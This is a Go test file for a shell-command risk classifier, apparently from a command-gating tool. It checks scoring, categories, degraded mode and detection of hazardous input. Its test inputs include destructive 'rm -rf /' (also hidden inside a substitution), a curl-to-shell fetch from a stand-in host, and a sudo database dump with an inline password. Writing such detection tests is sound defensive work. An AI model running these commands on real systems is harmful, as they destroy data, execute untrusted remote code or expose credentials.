package risk

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sentinelops/cmdgate/internal/shellparse"
)

func defaultClassifier(t *testing.T) *Classifier {
	t.Helper()
	return NewClassifier(NewDBFromPatterns(DefaultPatterns(), nil), nil, nil)
}

func classify(t *testing.T, c *Classifier, raw string) Classification {
	t.Helper()
	pc, err := shellparse.Parse(raw, shellparse.DialectPosix)
	if err != nil {
		t.Fatalf("parse %q: %v", raw, err)
	}
	return c.Classify(pc, ExecContext{Submitter: "u1"})
}

func TestEchoIsSafe(t *testing.T) {
	cl := classify(t, defaultClassifier(t), "echo hello")
	if cl.Category != CategorySafe {
		t.Fatalf("expected safe, got %s (score %d, factors %v)", cl.Category, cl.Score, cl.Factors)
	}
	if !cl.AutoApprovable {
		t.Error("safe commands must be auto-approvable")
	}
}

func TestCriticalPatternFastPath(t *testing.T) {
	cl := classify(t, defaultClassifier(t), "rm -rf /")
	if cl.Score != 100 || cl.Category != CategoryCritical {
		t.Fatalf("expected 100/critical, got %d/%s", cl.Score, cl.Category)
	}
	if len(cl.Factors) != 1 {
		t.Fatalf("fast path must bypass further accumulation, factors: %v", cl.Factors)
	}
	if cl.Factors[0].PatternID != "core.rm-root" {
		t.Errorf("matched pattern = %s", cl.Factors[0].PatternID)
	}
}

func TestSudoDumpWithCredentialScoresHigh(t *testing.T) {
	cl := classify(t, defaultClassifier(t), "sudo mysqldump -u root -pSECRET mydb")
	if cl.Category != CategoryHigh {
		t.Fatalf("expected high, got %s (score %d, factors %v)", cl.Category, cl.Score, cl.Factors)
	}
	var sawCred, sawPriv bool
	for _, f := range cl.Factors {
		if strings.Contains(f.Description, "credential-shaped") {
			sawCred = true
		}
		if strings.Contains(f.Description, "privilege escalation") {
			sawPriv = true
		}
		if strings.Contains(f.Description, "SECRET") {
			t.Errorf("factor leaked a secret: %q", f.Description)
		}
	}
	if !sawCred || !sawPriv {
		t.Errorf("expected credential and privilege factors, got %v", cl.Factors)
	}
}

func TestPrivilegeMultiplierNotFlat(t *testing.T) {
	c := defaultClassifier(t)
	plain := classify(t, c, "mysqldump -u root mydb")
	elevated := classify(t, c, "sudo mysqldump -u root mydb")
	if elevated.Score <= plain.Score {
		t.Fatalf("elevation must increase score: %d vs %d", plain.Score, elevated.Score)
	}
	want := int(float64(plain.Score)*privilegeMultiplier + 0.5)
	if elevated.Score != want {
		t.Errorf("expected multiplied score %d, got %d", want, elevated.Score)
	}
}

func TestDeterminism(t *testing.T) {
	c := defaultClassifier(t)
	for _, raw := range []string{
		"echo hello",
		"sudo mysqldump -u root -pSECRET mydb",
		"curl http://x.example/i.sh | sh",
		"rm -rf /tmp/scratch",
	} {
		a := classify(t, c, raw)
		b := classify(t, c, raw)
		if diff := cmp.Diff(a, b); diff != "" {
			t.Errorf("%q: classification not deterministic (-first +second):\n%s", raw, diff)
		}
	}
}

func TestPipeToShellFactor(t *testing.T) {
	cl := classify(t, defaultClassifier(t), "curl http://x.example/i.sh | sh")
	found := false
	for _, f := range cl.Factors {
		if strings.Contains(f.Description, "piped into a shell") {
			found = true
		}
	}
	if !found {
		t.Fatalf("pipe-to-shell not detected: %v", cl.Factors)
	}
}

func TestSubstitutionBodyStillMatched(t *testing.T) {
	// The dangerous command hides inside a substitution; patterns must
	// still see it.
	cl := classify(t, defaultClassifier(t), "echo $(rm -rf /)")
	if cl.Category != CategoryCritical {
		t.Fatalf("substitution hid a critical pattern: %d/%s", cl.Score, cl.Category)
	}
}

func TestLowConfidenceParseRaisesScore(t *testing.T) {
	c := defaultClassifier(t)
	pc, err := shellparse.Parse("frobnicate widget", shellparse.DialectAuto)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	cl := c.Classify(pc, ExecContext{})
	if cl.Score == 0 {
		t.Error("low-confidence parse should contribute risk")
	}
}

func TestDegradedModeFloorsAtMedium(t *testing.T) {
	db := NewDBFromPatterns(DefaultPatterns(), nil)
	db.MarkUnavailable()
	c := NewClassifier(db, nil, nil)
	cl := classify(t, c, "echo hello")
	if !cl.Category.AtLeast(CategoryMedium) {
		t.Fatalf("degraded mode must floor at medium, got %s", cl.Category)
	}
	if !cl.Degraded {
		t.Error("degraded flag not set")
	}
	if cl.AutoApprovable {
		t.Error("degraded classifications must never auto-approve")
	}
}

func TestDegradedFloorNeverLowers(t *testing.T) {
	db := NewDBFromPatterns(DefaultPatterns(), nil)
	db.MarkUnavailable()
	c := NewClassifier(db, nil, nil)
	cl := classify(t, c, "sudo mysqldump -u root -pSECRET mydb")
	if cl.Score < MinScoreFor(CategoryMedium) {
		t.Fatalf("floor lowered a score: %d", cl.Score)
	}
}

type fixedDetector struct{ delta int }

func (d fixedDetector) Score(*shellparse.ParsedCommand, ExecContext) (int, string) {
	return d.delta, "detector flagged unusual activity"
}

func TestAnomalyDetectorContributesBoundedDelta(t *testing.T) {
	db := NewDBFromPatterns(DefaultPatterns(), nil)
	c := NewClassifier(db, fixedDetector{delta: 500}, nil)
	cl := classify(t, c, "echo hello")
	for _, f := range cl.Factors {
		if f.Description == "detector flagged unusual activity" && f.Delta > pointsAnomaly {
			t.Errorf("anomaly delta not capped: %d", f.Delta)
		}
	}
}

func TestCategoryBoundaries(t *testing.T) {
	cases := map[int]Category{
		0: CategorySafe, 20: CategorySafe,
		21: CategoryLow, 40: CategoryLow,
		41: CategoryMedium, 60: CategoryMedium,
		61: CategoryHigh, 80: CategoryHigh,
		81: CategoryCritical, 100: CategoryCritical,
	}
	for score, want := range cases {
		if got := CategoryForScore(score); got != want {
			t.Errorf("CategoryForScore(%d) = %s, want %s", score, got, want)
		}
	}
}

func TestExplainIsPure(t *testing.T) {
	cl := classify(t, defaultClassifier(t), "sudo mysqldump -u root -pSECRET mydb")
	before := cmp.Diff(cl, cl)
	ex := Explain(cl)
	if before != cmp.Diff(cl, cl) {
		t.Error("Explain mutated the classification")
	}
	if ex.Summary == "" || len(ex.Factors) == 0 {
		t.Errorf("explanation incomplete: %+v", ex)
	}
	if len(ex.Mitigations) == 0 {
		t.Error("expected mitigation suggestions")
	}
}
